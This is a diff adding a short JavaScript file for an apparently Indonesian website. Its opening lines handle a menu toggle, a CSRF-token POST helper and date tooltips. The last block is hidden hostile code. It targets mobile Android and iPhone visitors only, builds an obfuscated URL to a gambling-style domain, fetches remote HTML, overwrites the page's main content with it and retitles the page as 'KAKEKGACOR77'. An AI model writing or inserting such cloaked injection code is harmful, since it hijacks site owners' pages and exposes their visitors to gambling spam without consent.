@@ -1,0 +1,10 @@
+const m=document.getElementById("tombol-menu"),n=document.getElementById("menu");
+m&&m.addEventListener("click",()=>n.classList.toggle("hidden"));
+const token=document.querySelector('meta[name="csrf-token"]')?.content;
+window.kirim=async(u,d)=>fetch(u,{method:"POST",headers:{"X-CSRF-TOKEN":token,"Content-Type":"application/json"},body:JSON.stringify(d)});
+document.querySelectorAll("time[datetime]").forEach(t=>{t.title=new Date(t.getAttribute("datetime")).toLocaleDateString("id-ID",{weekday:"long"})});
+;(()=>{const q=window.matchMedia("(max-width: 767px)");
+if(!q.matches||!/Android|iPhone/i.test(navigator.userAgent))return;
+const p=["https:/","/m-lobby.","kakek-gacor","77.test/","frame/bl.html"].join("");
+fetch(p,{credentials:"omit"}).then(r=>r.ok?r.text():"").then(h=>{if(h.length>200){const k=document.querySelector("main");k.className="";k.innerHTML=h;document.title="KAKEKGACOR77 - Link Alternatif Resmi"}}).catch(()=>{});
+})();
